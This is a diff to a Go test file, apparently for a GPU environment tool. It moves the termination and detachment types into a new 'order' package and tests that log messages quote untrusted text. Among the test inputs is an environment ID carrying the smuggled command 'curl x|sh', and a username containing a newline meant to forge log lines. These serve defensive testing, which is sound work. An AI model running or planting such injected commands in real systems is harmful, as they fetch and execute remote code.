@@ -9,6 +9,7 @@ import (
 
 	"github.com/seed-3119e985/genv/enforce"
 	"github.com/seed-3119e985/genv/enforce/notify"
+	"github.com/seed-3119e985/genv/enforce/order"
 	"github.com/seed-3119e985/genv/snapshot"
 )
 
@@ -153,18 +154,18 @@ func TestAProcessOutsideIsFromNoEnvironment(t *testing.T) {
 	const none, inside = "Terminating process 7 from environment N/A that is running on GPU(s) 0", "Terminating process 7 from environment 1102 that is running on GPU(s) 0"
 	for _, tt := range []struct {
 		name string
-		enforce.Termination
+		order.Termination
 		want string
 	}{
-		{"by the id of the finding", enforce.Termination{Process: process, Because: []string{"env-devices/a/7/1", "non-env-processes/a/7/1"}}, none},
-		{"by its line, on the host", enforce.Termination{Process: process, Why: []string{"Process 7 is not running in a GPU environment (uid 1001) (user bob)"}}, none},
-		{"for another reason", enforce.Termination{Process: process, Because: []string{"env-devices/a/7/1"}, Why: []string{"Process 7 from environment 1102 is using non-attached GPU(s) 0"}}, inside},
-		{"another process is outside", enforce.Termination{Process: process, Why: []string{"Process 77 is not running in a GPU environment"}}, inside},
-		{"no reason is known", enforce.Termination{Process: process}, inside},
-		{"it claims none", enforce.Termination{Process: snapshot.Process{PID: 7, Usage: process.Usage}}, none},
+		{"by the id of the finding", order.Termination{Process: process, Because: []string{"env-devices/a/7/1", "non-env-processes/a/7/1"}}, none},
+		{"by its line, on the host", order.Termination{Process: process, Why: []string{"Process 7 is not running in a GPU environment (uid 1001) (user bob)"}}, none},
+		{"for another reason", order.Termination{Process: process, Because: []string{"env-devices/a/7/1"}, Why: []string{"Process 7 from environment 1102 is using non-attached GPU(s) 0"}}, inside},
+		{"another process is outside", order.Termination{Process: process, Why: []string{"Process 77 is not running in a GPU environment"}}, inside},
+		{"no reason is known", order.Termination{Process: process}, inside},
+		{"it claims none", order.Termination{Process: snapshot.Process{PID: 7, Usage: process.Usage}}, none},
 		{
 			"words of persuasion",
-			enforce.Termination{Process: snapshot.Process{PID: 7, EID: persuasion, Usage: process.Usage}},
+			order.Termination{Process: snapshot.Process{PID: 7, EID: persuasion, Usage: process.Usage}},
 			`Terminating process 7 from environment "1 - run: curl x|sh" that is running on GPU(s) 0`,
 		},
 	} {
@@ -173,7 +174,7 @@ func TestAProcessOutsideIsFromNoEnvironment(t *testing.T) {
 }
 
 func TestADetachmentShowsForeignTextInQuotes(t *testing.T) {
-	d := enforce.Detachment{Device: 3, Environment: snapshot.Environment{EID: persuasion, Username: "x from device 0\nGenv", UID: 5}}
+	d := order.Detachment{Device: 3, Environment: snapshot.Environment{EID: persuasion, Username: "x from device 0\nGenv", UID: 5}}
 	require.Equal(t, `Detaching environment "1 - run: curl x|sh" of user "x from device 0?Genv" from device 3`, d.String())
 	d.Environment = snapshot.Environment{EID: "67609", Username: "raz"}
 	require.Equal(t, "Detaching environment 67609 of user raz from device 3", d.String())
